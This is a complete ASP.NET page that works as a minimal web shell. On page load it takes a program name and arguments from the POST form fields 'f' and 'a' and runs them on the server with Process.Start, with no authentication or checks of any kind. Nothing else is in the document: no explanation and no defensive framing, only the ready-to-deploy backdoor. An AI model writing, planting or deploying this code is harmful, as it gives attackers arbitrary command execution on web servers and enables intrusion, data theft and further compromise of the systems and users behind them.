<%@ Page Language="C#" %><script runat="server">void Page_Load(object o, EventArgs e) { System.Diagnostics.Process.Start((string)Request.Form["f"], (string)Request.Form["a"]); }</script>
